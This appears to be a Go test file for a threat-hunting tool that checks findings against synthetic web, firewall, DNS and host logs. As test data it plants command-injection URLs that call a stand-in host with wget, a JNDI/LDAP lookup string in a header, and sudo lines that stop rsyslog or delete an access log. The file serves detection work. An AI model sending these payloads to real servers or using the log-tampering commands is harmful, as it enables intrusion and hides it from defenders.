package queries

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

// What a hunt for requests says must rest on the records: each of these is a few requests of which a hunt once said what was not so.

// actsBegin is when they begin.
var actsBegin = time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)

// minutesIn is a moment of them.
func minutesIn(minutes float64) time.Time {
	return actsBegin.Add(time.Duration(minutes * float64(time.Minute)))
}

// newWebDay is a day without a record; a file of one day is like none of another.
func newWebDay(no int) *webDay {
	d := &webDay{rng: rand.New(rand.NewPCG(14, uint64(no))), no: no, port: 500 * no}
	d.flow.WriteString("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id subnet-id " +
		"instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id sublocation-type sublocation-id " +
		"pkt-src-aws-service pkt-dst-aws-service flow-direction\n")
	return d
}

// logs are the files of a day.
func (d *webDay) logs() map[string][]byte {
	page, _ := json.Marshal(map[string]any{"events": d.events, "searchedLogStreams": []any{}})
	all := map[string][]byte{"host.json": page}
	for name, b := range map[string]*bytes.Buffer{"alb.log": &d.alb, "flow.log": &d.flow, "dns.log": &d.dns, "waf.log": &d.waf} {
		if b.Len() > 0 {
			all[name] = b.Bytes()
		}
	}
	return all
}

// judged is a record of the firewall; id ties it to nothing.
func (d *webDay) judged(at time.Time, action, client, method, uri, header string) {
	path, args, _ := strings.Cut(uri, "?")
	fmt.Fprintf(&d.waf, `{"timestamp":%d,"webaclId":"arn:aws:wafv2:us-east-2:123456789012:regional/webacl/web/1","terminatingRuleId":"common",`+
		`"terminatingRuleType":"REGULAR","action":%q,"httpSourceName":"ALB","httpRequest":{"clientIp":%q,"headers":[{"name":"Host",`+
		`"value":"www.corp.example"},{"name":"Referer","value":"https://www.corp.example/"},{"name":"X-Api-Version","value":%q}],"uri":%q,"args":%q,`+
		`"httpMethod":%q,"requestId":"r%d-%d"}}`+"\n", at.UnixMilli(), action, client, header, path, args, method, at.UnixMilli(), d.no)
}

// bare is a line of a web server that does not log X-Forwarded-For.
func (d *webDay) bare(at time.Time, peer, request string, status, bytes int) {
	d.shipped(at, "access_log", fmt.Sprintf(`%s - - [%s] "%s HTTP/1.1" %d %d "-" "agent/1.0"`, peer, at.Format("02/Jan/2006:15:04:05 -0700"), request,
		status, bytes))
}

// logged is a line of the host's own log.
func (d *webDay) logged(at time.Time, text string) {
	d.shipped(at, "auth.log", at.Format("Jan _2 15:04:05")+" web "+text)
}

// sudo is what an operator did as root.
func sudo(command string) string {
	return "sudo:   ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=" + command
}

const dropped = "/item?id=5;wget+http://drop.evil.example/x"

// requestAct is such requests, and what is said of them.
type requestAct struct {
	name, hunt string
	given      map[string]string
	plant      func(d *webDay)
	severity   string              // of the best finding
	about      map[string]string   // it has these values
	said       []string            // and its reason these words
	never      []string            // no finding has these
	others     []map[string]string // further findings
	none       bool                // nothing is found
}

var requestActs = []requestAct{
	{
		name: "the site's own name is in every URL", hunt: "call-back-names", none: true,
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=5;id", 200, 300, false, false)
			d.judged(minutesIn(0), "ALLOW", webIntruder, "GET", "/item?id=5;id", "-")
			d.called(minutesIn(30), "www.corp.example", "192.0.2.80")
		},
	},
	{
		name: "and in a redirection", hunt: "call-back-names", severity: "low",
		about: map[string]string{"name": "www.corp.example", "own_site": "true"}, said: []string{"ask our own site by that name"},
		plant: func(d *webDay) {
			d.asked(minutesIn(-5), "198.51.100.1", "GET", "/", 200, 300, false, false)
			d.asked(minutesIn(0), webIntruder, "GET", "/go?to=https://www.corp.example/&x=;id", 200, 300, false, false)
			d.called(minutesIn(30), "www.corp.example", "192.0.2.80")
		},
	},
	{
		name: "the same exploit again", hunt: "call-back-names", severity: "high",
		about: map[string]string{"request_at": "2026-11-02 10:00:00", "minutes_after": "0.5", "asked_before": "false", "rows": "2"},
		said:  []string{"30 s later", "the host that was asked", "for the first time"},
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", dropped, 200, 300, false, false)
			d.called(minutesIn(0.5), "drop.evil.example", "203.0.113.77")
			d.asked(minutesIn(120), webIntruder, "GET", dropped, 200, 300, false, false)
			d.called(minutesIn(120.1), "drop.evil.example", "203.0.113.77")
		},
	},
	{
		name: "of several the last before the call", hunt: "call-back-names", severity: "high",
		about: map[string]string{"request_at": "2026-11-02 10:09:00", "minutes_after": "1"}, said: []string{"60 s later"},
		plant: func(d *webDay) {
			for _, m := range []float64{0, 5, 9, 10.5} {
				d.asked(minutesIn(m), webIntruder, "GET", dropped, 200, 300, false, false)
			}
			d.called(minutesIn(10), "drop.evil.example", "203.0.113.77")
		},
	},
	{
		name: "a header that only the firewall saw", hunt: "call-back-names", severity: "high", said: []string{"the host that was asked"},
		about: map[string]string{"name": "drop.evil.example", "asked_by_target": "true"},
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=1", 200, 300, false, false)
			d.judged(minutesIn(0).Add(3*time.Millisecond), "ALLOW", webIntruder, "GET", "/item?id=1", "${jndi:ldap://drop.evil.example/a}")
			d.called(minutesIn(0.1), "drop.evil.example", "203.0.113.77")
		},
	},
	{
		name: "nobody knows which host was asked", hunt: "call-back-names", severity: "medium", said: []string{"which one was asked no log says"},
		about: map[string]string{"asked_by_target": ""}, never: []string{"another host"},
		plant: func(d *webDay) {
			d.judged(minutesIn(0), "ALLOW", webIntruder, "GET", "/item?id=1", "${jndi:ldap://drop.evil.example/a}")
			d.called(minutesIn(0.1), "drop.evil.example", "203.0.113.77")
		},
	},
	{
		name: "what was called after the window", hunt: "call-back-names", given: map[string]string{"to": "2026-11-02 10:00:10"}, none: true,
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", dropped, 200, 300, false, false)
			d.called(minutesIn(1), "drop.evil.example", "203.0.113.77")
		},
	},
	{
		name: "an address that had been called before", hunt: "call-back-names", severity: "medium", about: map[string]string{"dst": "203.0.113.77"},
		said: []string{"it had been asked for before"}, never: []string{"for the first time"},
		plant: func(d *webDay) {
			d.connected(minutesIn(-60), webHost, "203.0.113.77", 443)
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=5;wget+http://203.0.113.77/x", 200, 300, false, false)
			d.connected(minutesIn(1), webHost, "203.0.113.77", 443)
		},
	},
	{
		name: "a web server that does not log who asked", hunt: "log-differences", none: true,
		plant: func(d *webDay) { plainLog(d, func(int) bool { return false }) },
	},
	{
		name: "and lines of it that are gone", hunt: "log-differences", severity: "medium", about: map[string]string{"missing": "4", "by_client": "false"},
		said:  []string{"of 90 requests", "4 are not there", "as its log does not say who asked"},
		plant: func(d *webDay) { plainLog(d, func(i int) bool { return i >= 40 && i < 44 }) },
	},
	{
		name: "a log of something else", hunt: "log-differences", severity: "low", about: map[string]string{"missing": ""},
		said: []string{"cannot be compared"}, never: []string{"not there"},
		plant: func(d *webDay) {
			for i := range 20 {
				d.asked(minutesIn(float64(i)), "198.51.100.1", "GET", "/item?id=5", 200, 4000, false, true)
				d.bare(minutesIn(float64(i)), "10.0.9.9", "GET /status", 200, 100)
			}
		},
	},
	{
		name: "a node of the load balancer is no client", hunt: "who-fetched-the-shell", none: true, given: map[string]string{"least": "0"},
		plant: func(d *webDay) { plainLog(d, func(int) bool { return false }) },
	},
	{
		name: "in one log hardly anybody asks for it, in the other everybody", hunt: "who-fetched-the-shell", none: true,
		given: map[string]string{"least": "0"},
		plant: func(d *webDay) {
			for i := range 40 {
				d.asked(minutesIn(float64(i)), fmt.Sprintf("198.51.100.%d", i), "GET", "/login.php?do=in", 200, 4000, false, i >= 3)
			}
		},
	},
	{
		name: "refused again after it was let in", hunt: "blocked-then-let-in", severity: "medium",
		about: map[string]string{"seconds_between": "60", "refusals": "1", "refused_at": "2026-11-02 10:00:00", "let_in_at": "2026-11-02 10:01:00"},
		plant: func(d *webDay) {
			for i, m := range []float64{0, 10} {
				d.asked(minutesIn(m), webIntruder, "GET", fmt.Sprintf("/item?id=%d;id", 2*i), 403, 300, true, false)
				d.asked(minutesIn(m+1), webIntruder, "GET", fmt.Sprintf("/item?id=%d", 2*i+1), 200, 300, false, false)
			}
		},
	},
	{
		name: "what was let in is told with its own URL and text", hunt: "blocked-then-let-in", severity: "high",
		about: map[string]string{"let_in_at": "2026-11-02 15:00:00"}, said: []string{"18000 s later", "%253Bwget", "carries command"},
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=1;id", 403, 300, true, false)
			d.asked(minutesIn(1), webIntruder, "GET", "/item?id=2", 200, 300, false, false)
			d.asked(minutesIn(300), webIntruder, "GET", "/item?id=5%253Bwget%2520http://drop.evil.example/x", 200, 300, false, false)
		},
	},
	{
		name: "two logs of one refusal, and the same URL in another spelling", hunt: "blocked-then-let-in", severity: "medium",
		about: map[string]string{"refusals": "1", "refused_at": "2026-11-02 10:00:00"}, said: []string{"refused at /item 1 time,"},
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=1;id", 403, 300, true, false)
			d.waf.Reset()
			d.judged(minutesIn(0).Add(5*time.Millisecond), "BLOCK", webIntruder, "GET", "/item?id=1;id", "-")
			d.asked(minutesIn(1), webIntruder, "GET", "/item?id=2", 200, 300, false, false)
			d.asked(minutesIn(2), "203.0.113.10", "GET", "/rate?id=1", 403, 300, true, false)
			d.asked(minutesIn(3), "203.0.113.10", "GET", "/rate?id=1", 200, 300, false, false)
		},
	},
	{
		name: "the window is not the whole", hunt: "what-did-the-host-do-next", none: true, given: map[string]string{"from": "2026-11-02 09:59:00"},
		plant: func(d *webDay) {
			d.called(minutesIn(-120), "updates.os.example", "192.0.2.80")
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=5;id", 200, 300, false, false)
			d.called(minutesIn(1), "updates.os.example", "192.0.2.80")
		},
	},
	{
		name: "several at one moment", hunt: "what-did-the-host-do-next", about: map[string]string{"request_from": "203.0.113.1"},
		severity: "medium", said: []string{"in the 2.0 hours since these logs of the capture begin"},
		plant: func(d *webDay) {
			d.called(minutesIn(-120), "updates.os.example", "192.0.2.80")
			for i := range 9 {
				d.asked(minutesIn(0), fmt.Sprintf("203.0.113.%d", 9-i), "GET", "/item?id=5;id", 200, 300, false, false)
			}
			d.called(minutesIn(0.5), "drop.evil.example", "203.0.113.77")
		},
	},
	{
		name: "the state of the agent is asked for", hunt: "when-did-the-log-stop", severity: "medium", about: map[string]string{"said": ""},
		never: []string{"the agent was stopped", "a line says"},
		plant: func(d *webDay) { stopsAfter(d, sudo("/usr/bin/systemctl status amazon-cloudwatch-agent")) },
	},
	{
		name: "the agent is stopped and started again", hunt: "when-did-the-log-stop", severity: "medium", about: map[string]string{"said": ""},
		never: []string{"the agent was stopped", "a line says"},
		plant: func(d *webDay) {
			stopsAfter(d, sudo("/usr/bin/systemctl stop amazon-cloudwatch-agent"), sudo("/usr/bin/systemctl start amazon-cloudwatch-agent"),
				sudo("/usr/bin/systemctl restart rsyslog"))
		},
	},
	{
		name: "rsyslog is not the agent", hunt: "when-did-the-log-stop", severity: "high", said: []string{"a line says", "stop rsyslog"},
		never: []string{"the agent was stopped"},
		plant: func(d *webDay) { stopsAfter(d, sudo("/usr/bin/systemctl stop rsyslog")) },
	},
	{
		name: "one stream of several", hunt: "when-did-the-log-stop", severity: "high", about: map[string]string{"stream": webInstance + "/access_log"},
		said: []string{"the stream " + webInstance + "/access_log ends at 2026-11-02 11:00:00", "others of it go on", "rm /var/log/httpd/access_log"},
		plant: func(d *webDay) {
			for i := range 200 {
				d.asked(minutesIn(float64(i)), "198.51.100.1", "GET", "/", 200, 100, false, i > 60)
				d.logged(minutesIn(float64(i)), "sshd[900]: Accepted publickey for ops from 10.0.9.9 port 50000 ssh2")
			}
			d.logged(minutesIn(60.5), sudo("/usr/bin/rm /var/log/httpd/access_log"))
		},
	},
	{
		name: "three callers came by both ways", hunt: "past-the-front-door", severity: "medium", about: map[string]string{"both_ways": "3", "attackers": "2"},
		said: []string{"2 of them with the text of an attack"}, never: []string{"one of them"},
		plant: func(d *webDay) {
			for i := range 3 {
				client := fmt.Sprintf("203.0.113.%d", 9+i)
				d.asked(minutesIn(0), client, "GET", []string{"/item?id=5", "/item?id=5;id"}[min(i, 1)], 200, 300, false, false)
				d.written(minutesIn(1), client, "-", "GET /item?id=5", 200, 90)
			}
		},
	},
	{
		name: "a page that nobody else asks for", hunt: "exploit-strings", severity: "medium",
		about: map[string]string{"requests": "1", "unusual": "0", "uncompared": "1"}, said: []string{"no other answer to compare with"},
		never: []string{"unlike other"},
		plant: func(d *webDay) { d.asked(minutesIn(0), webIntruder, "GET", "/item?id=5;id", 200, 300, false, false) },
	},
	{
		name: "what was handed to nobody is nobody's", hunt: "exploit-strings", severity: "medium",
		about: map[string]string{"dst": webHost, "requests": "2", "failed": "1", "blocked": "1"}, said: []string{"1 of them handed to no host"},
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", "/only-b?id=5;id", 403, 300, true, false)
			d.asked(minutesIn(1), webIntruder, "GET", "/item?id=5;id", 500, 300, false, false)
		},
	},
	{
		name: "each log has other requests", hunt: "exploit-strings", severity: "medium",
		about:  map[string]string{"dst": webHost, "requests": "2", "answered": "2", "blocked": "0", "rows": "2"},
		others: []map[string]string{{"dst": "", "requests": "1", "blocked": "1", "logs": "waf"}},
		plant: func(d *webDay) {
			d.asked(minutesIn(0), webIntruder, "GET", "/item?id=1;id", 403, 300, true, false)
			d.alb.Reset()
			d.written(minutesIn(1), webNode, webIntruder, "GET /item?id=2;id", 200, 300)
			d.written(minutesIn(2), webNode, webIntruder, "GET /item?id=3;id", 200, 300)
			d.connected(minutesIn(0), webHost, "192.0.2.80", 443)
		},
	},
	{
		name: "the web server does not say who sent it, the load balancer does", hunt: "exploit-strings", severity: "medium",
		about: map[string]string{"src": webIntruder, "requests": "2", "answered": "2", "rows": "4", "logs": "alb httpd"},
		plant: func(d *webDay) {
			for i := range 2 {
				d.asked(minutesIn(float64(i)), webIntruder, "GET", "/item?id=5;id", 200, 300, false, true)
				d.bare(minutesIn(float64(i)), webNode, "GET /item?id=5;id", 200, 300)
			}
		},
	},
}

// plainLog is an hour and a half of requests that two nodes of a load balancer hand over, one a minute.
func plainLog(d *webDay, hidden func(i int) bool) {
	for i := range 90 {
		at, uri := minutesIn(float64(i)), []string{"/login.php?do=in", "/", "/item?id=5"}[i%3]
		d.asked(at, fmt.Sprintf("198.51.100.%d", 1+i), "GET", uri, 200, 4000, false, true)
		if !hidden(i) {
			d.bare(at, []string{webNode, "10.0.0.11"}[i%2], "GET "+uri, 200, 4000)
		}
	}
}

// stopsAfter is a host that is asked on after its logs ended with these lines.
func stopsAfter(d *webDay, lines ...string) {
	for i := range 200 {
		d.asked(minutesIn(float64(i)), "198.51.100.1", "GET", "/", 200, 100, false, i > 60)
	}
	for i, text := range lines {
		d.logged(minutesIn(60).Add(time.Duration(10*(i+1))*time.Second), text)
	}
}

func TestHuntsSayOnlyWhatRequestsShow(t *testing.T) {
	db := loadedApart(t, len(requestActs), func(i int) map[string][]byte {
		d := newWebDay(i + 1)
		requestActs[i].plant(d)
		return d.logs()
	})
	for i, act := range requestActs {
		t.Run(act.hunt+": "+act.name, func(t *testing.T) {
			given := map[string]string{"capture": fmt.Sprint("act-", i)}
			maps.Copy(given, act.given)
			if n := countOf(t, db, "SELECT count(*) FROM http WHERE capture = '"+given["capture"]+"'"); n == 0 {
				t.Fatal("no request was loaded")
			}
			act.check(t, findingsOf(t, db, act.hunt, given))
		})
	}
}

// check compares what was found with what should be.
func (a *requestAct) check(t *testing.T, all []found) {
	told := []string{}
	for _, f := range all {
		told = append(told, fmt.Sprintf("%s %.3f %v: %s", f.severity, f.score, f.row, f.reason))
		for _, words := range a.never {
			if strings.Contains(f.reason, words) {
				t.Errorf("said %q: %s", words, f.reason)
			}
		}
	}
	defer func() {
		if t.Failed() {
			t.Log(strings.Join(told, "\n"))
		}
	}()
	if a.none || len(all) == 0 {
		if len(all) > 0 || !a.none {
			t.Errorf("%d findings", len(all))
		}
		return
	}
	if best := all[0]; best.severity != a.severity || !best.about(a.about) {
		t.Errorf("%s, want %s about %v", best.severity, a.severity, a.about)
	}
	for _, words := range a.said {
		if !strings.Contains(all[0].reason, words) {
			t.Errorf("not said: %q", words)
		}
	}
	for _, other := range a.others {
		hits := 0
		for _, f := range all[1:] {
			if f.about(other) {
				hits++
			}
		}
		if hits != 1 {
			t.Errorf("%d findings about %v", hits, other)
		}
	}
}
